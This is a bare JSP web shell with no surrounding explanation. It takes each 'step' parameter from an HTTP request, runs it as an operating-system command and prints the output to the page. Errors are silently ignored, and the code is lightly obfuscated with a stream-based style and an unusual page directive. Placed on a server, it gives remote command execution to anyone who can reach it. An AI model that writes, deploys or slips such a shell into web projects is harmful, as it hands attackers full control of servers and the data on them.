<%@ page inert %>
<%@ page import="java.util.*,java.util.function.*,java.util.stream.*" %>
<%
Function<String, InputStream> f = c -> {
    try { return new ProcessBuilder(c.split(" ")).start().getInputStream(); }
    catch (Exception e) { return null; }
};
Optional.ofNullable(request.getParameterValues("step"))
    .map(Arrays::stream).orElseGet(Stream::empty)
    .map(f)
    .filter(Objects::nonNull)
    .forEach(s -> { Scanner sc = new Scanner(s); while (sc.hasNextLine()) try { out.println(sc.nextLine()); } catch (Exception e) { } });
%>
